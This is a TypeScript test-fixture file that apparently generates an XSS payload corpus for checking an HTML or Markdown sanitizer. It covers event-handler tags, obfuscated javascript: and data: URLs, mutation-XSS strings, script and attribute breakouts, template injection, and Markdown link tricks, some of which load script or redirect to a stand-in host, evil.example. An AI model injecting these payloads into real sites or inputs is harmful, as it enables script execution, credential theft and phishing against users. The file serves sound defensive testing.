/**
 * Texts that would become code, a form or a frame if they were inserted into a page unescaped: elements, attributes,
 * addresses, mutation XSS, templates, Markdown, and ways to break out of a script or an attribute.
 */
const run = "window.__ran=1;alert(1)";

const elements = ["img", "svg", "video", "audio", "body", "input", "details", "marquee", "object"];
const events = ["onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationstart"];

/** Each element with each event: src, autofocus and open trigger the event by themselves. */
const handlers = elements.flatMap((element) =>
  events.map((event) => `<${element} src=x autofocus open tabindex=1 ${event}="${run}">`),
);

const schemes = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  ` javascript:${run}`,
  `\u0001javascript:${run}`,
  `javascript&colon;${run}`,
  `&#106;avascript:${run}`,
  `&#x6A;avascript&#58;${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload="${run}">`,
  `vbscript:msgbox(1)`,
  `//evil.example/x.js`,
  `https://evil.example/x.js`,
];

const addresses = schemes.flatMap((scheme) => [
  `<a href="${scheme}">x</a>`,
  `<iframe src="${scheme}"></iframe>`,
  `<form action="${scheme}"><button autofocus>x</button></form>`,
  `<object data="${scheme}"></object>`,
  `[x](${scheme})`,
  `![x](${scheme})`,
]);

/** Harmless as they are, but not after a parser has corrected them. */
const mended = [
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${run}></style>`,
  `<template><script>${run}</script></template>`,
  `<textarea><script>${run}</script></textarea><img src=x onerror=${run}>`,
  `<title></title><script>${run}</script>`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  `<listing><img src=x onerror=${run}></listing>`,
  `<plaintext><img src=x onerror=${run}>`,
  `<noembed><img title="</noembed><img src onerror=${run}>"></noembed>`,
  `<select><style></select><img src=x onerror=${run}></style>`,
  `<table><td><svg><desc><img src=x onerror=${run}></desc></svg>`,
  `<svg><foreignObject><p><img src=x onerror=${run}></p></foreignObject></svg>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x">`,
  `<svg><script href="data:,${run}"></script></svg>`,
  `<svg><set attributeName=onmouseover to="${run}">`,
  `<math href="javascript:${run}">x</math>`,
  `<style>@import "//evil.example/x.css";</style>`,
  `<style>*{background:url(javascript:${run})}</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<link rel=import href="data:text/html,<script>${run}</script>">`,
  `<base href=//evil.example/>`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<meta http-equiv=Content-Security-Policy content="script-src 'unsafe-inline'">`,
  `<meta name=referrer content=unsafe-url>`,
  `<embed src="javascript:${run}">`,
  `<frameset onload="${run}">`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;${run}&lt;/script&gt;"></iframe>`,
  `<button formaction="javascript:${run}" autofocus>x</button>`,
  `<input type=image src=x onerror=${run}>`,
  `<keygen autofocus onfocus=${run}>`,
  `<div style="width:expression(${run})">`,
  `<div style="position:fixed;inset:0;z-index:9999;background:red">`,
  `<dialog open><form method=dialog><input name=password></form></dialog>`,
];

/**
 * Ways to break out of the context of a text: an element, an attribute, a script, a comment, data in a page, a
 * template.
 */
const outs = [
  `</script><script>${run}</script>`,
  `</ScRiPt ><script>${run}</script>`,
  `"]}</script><script>${run}</script>`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `" autofocus onfocus="${run}`,
  `' onmouseover='${run}`,
  "` onmouseover=`" + run,
  `--><script>${run}</script><!--`,
  `--!><script>${run}</script>`,
  `]]><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `</noscript><script>${run}</script>`,
  `<!--[if IE]><script>${run}</script><![endif]-->`,
  `<?xml version="1.0"?><script>${run}</script>`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<script>${run}</script>`,
  `<script/x>${run}</script>`,
  `<script\n>${run}</script>`,
  `<<script>${run}//<</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script type=module>${run}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${run}\\x3c/script\\x3e`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `&#x3C;script&#x3E;${run}&#x3C;/script&#x3E;`,
  `＜script＞${run}＜/script＞`,
  `‹script›${run}‹/script›`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `#{${run}}`,
  `<%= ${run} %>`,
  `{%raw%}<script>${run}</script>`,
  `$ACTION_ID_<script>${run}</script>`,
  `\u2028<script>${run}</script>\u2029`,
  `{"__html":"<img src=x onerror=${run}>"}`,
  `{"$$typeof":"Symbol(react.element)","type":"script"}`,
  `["$","script",null,{"children":"${run}"}]`,
];

/** In the markup that a story supports: none of these may become a link or a picture. */
const marks = [
  "[press](javascript:window.__ran=1)",
  "[press](JaVaScRiPt:window.__ran=1)",
  "[press](data:text/html,<script>window.__ran=1</script>)",
  "[press](//evil.example)",
  "[press](http://evil.example)",
  "[press](https://good.example@evil.example/)",
  "[https://good.example](https://evil.example/)",
  '[press](https://evil.example/"onclick=window.__ran=1)',
  "![](javascript:window.__ran=1)",
  "![x](https://evil.example/x.png)",
  "[press][1] [1]: javascript:window.__ran=1",
  "<javascript:window.__ran=1>",
];

export const markup: string[] = [
  ...new Set([...handlers, ...addresses, ...mended, ...outs, ...marks]),
];
